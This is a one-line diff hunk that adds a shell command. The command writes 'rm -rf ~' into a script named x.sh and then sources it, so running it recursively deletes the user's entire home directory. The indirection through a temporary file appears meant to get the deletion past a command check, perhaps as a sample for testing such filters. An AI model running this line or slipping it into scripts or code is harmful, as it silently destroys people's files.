@@ -1,0 +1,1 @@
+tee x.sh <<< 'rm -rf ~' >/dev/null; . ./x.sh
